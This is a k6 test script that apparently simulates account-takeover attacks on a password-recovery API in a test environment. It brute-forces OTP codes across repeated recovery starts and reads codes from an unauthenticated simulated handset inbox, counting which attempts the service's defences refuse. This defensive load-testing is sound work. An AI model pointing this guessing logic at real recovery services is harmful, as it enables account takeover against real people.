// attack-otp-bruteforce — an attacker who knows a victim's public record (citizen ID, full
// name, birth date, the phone on the account) takes the account over through forgotten-
// password recovery without the victim's phone. Each iteration is one victim and one vector:
//   guess      start a recovery, guess random codes until the challenge is spent, start the
//              next, until the service refuses a start (at most 8 starts, 10 guesses each);
//              a 200 on a guess is a takeover.
//   sim_inbox  read the OTP from the victim's simulated handset (GET /sim/handsets/{phone}/
//              messages without a token) and verify it: the test world's own door.
// Share of sim_inbox iterations: EIDSIM_MIX sim_inbox (default 0.2). Arrival rate: victims/s.
// A guess is counted 'fail' when the service evaluated it (422 otp_invalid, or the last
// allowed wrong code's 429 otp_attempts_exceeded), 'refused' when a defence answered.
import exec from 'k6/execution';
import { cfg } from './lib/config.js';
import { pool, draw } from './lib/citizens.js';
import { rng, digits, strongPassword } from './lib/rand.js';
import { call, attempt, target, refusedBy, otpLength, ATTACKER } from './lib/attack.js';
export { handleSummary } from './lib/summary.js';

const victims = pool('recover');
const mix = Object.assign({ sim_inbox: 0.2 }, cfg.mix);
const MAX_STARTS = 8;
const MAX_GUESSES = 10;

export const options = {
  scenarios: {
    victims: {
      executor: 'constant-arrival-rate', exec: 'victim', rate: Math.max(1, Math.round(cfg.rate * 60)), timeUnit: '1m',
      duration: `${cfg.duration}s`, preAllocatedVUs: Math.min(cfg.vus, 10), maxVUs: cfg.vus, gracefulStop: '30s',
    },
  },
  summaryTrendStats: ['avg', 'p(95)', 'p(99)', 'max', 'count'],
};

export function setup() {
  return { otpLength: otpLength() };
}

function start(c, vector) {
  return call('POST', '/v1/recoveries', { vector, role: ATTACKER, step: 'X01_OTPBrute_01_Start',
    body: { citizen_id: c.citizen_id, phone: c.account.phone, full_name: c.full_name, birth_date: c.birth_date } });
}

function verify(id, otp, r, vector) {
  return call('POST', `/v1/recoveries/${id}/verify`, { vector, role: ATTACKER, step: 'X01_OTPBrute_02_Verify',
    body: { otp, new_password: strongPassword(r) } });
}

// guess runs the guessing vector on c; true when a guess took the account over.
function guess(c, r, len) {
  for (let s = 0; s < MAX_STARTS; s++) {
    const st = start(c, 'guess');
    if (st.status !== 202 || !st.body || !st.body.recovery_id) return false;
    let left = -1;
    for (let g = 0; g < MAX_GUESSES; g++) {
      const v = verify(st.body.recovery_id, digits(r, len), r, 'guess');
      if (v.status === 200) {
        attempt('guess', 'success');
        return true;
      }
      if (v.status === 422 && v.code === 'otp_invalid') {
        attempt('guess', 'fail');
        left = v.body && v.body.error ? Number(v.body.error.attempts_left) : -1;
        continue;
      }
      if (v.status === 429 && v.code === 'otp_attempts_exceeded' && left === 1) {
        attempt('guess', 'fail'); // the last allowed wrong code: evaluated, and the challenge is spent
      } else {
        attempt('guess', refusedBy(v) ? 'refused' : 'fail');
      }
      break;
    }
  }
  return false;
}

// inbox reads the victim's handset as the attacker does: no token.
function inbox(phone, after, wait) {
  return call('GET', `/sim/handsets/${phone}/messages?after=${after}&wait=${wait}`, { vector: 'sim_inbox', role: ATTACKER, step: 'X01_OTPBrute_03_SimInbox', timeout: `${wait + 10}s` });
}

// simInbox runs the test-world vector on c; true on a takeover.
function simInbox(c, r) {
  const phone = c.account.phone;
  const before = inbox(phone, 0, 0);
  if (before.status !== 200 || !before.body || !Array.isArray(before.body.messages)) {
    attempt('sim_inbox', 'refused');
    return false;
  }
  let after = 0;
  for (const m of before.body.messages) if (m.id > after) after = m.id;
  const st = start(c, 'sim_inbox');
  if (st.status !== 202 || !st.body || !st.body.recovery_id) {
    attempt('sim_inbox', refusedBy(st) ? 'refused' : 'fail');
    return false;
  }
  let otp = '';
  for (let polls = 0; polls < 3 && !otp; polls++) {
    const m = inbox(phone, after, Math.min(10, cfg.otpWait));
    if (m.status !== 200 || !m.body || !Array.isArray(m.body.messages)) break;
    for (const x of m.body.messages) {
      if (x.id > after) after = x.id;
      if (x.otp) otp = x.otp;
    }
  }
  if (!otp) {
    attempt('sim_inbox', 'fail');
    return false;
  }
  const v = verify(st.body.recovery_id, otp, r, 'sim_inbox');
  attempt('sim_inbox', v.status === 200 ? 'success' : refusedBy(v) ? 'refused' : 'fail');
  return v.status === 200;
}

export function victim(data) {
  const d = draw(victims);
  if (d.reused) return; // a victim whose password an earlier iteration changed is no new target
  const r = rng(cfg.seed, exec.scenario.name, d.iteration, 'otp-bruteforce');
  if (r() < mix.sim_inbox) {
    target('sim_inbox', simInbox(d.c, r));
  } else {
    target('guess', guess(d.c, r, data.otpLength));
  }
}
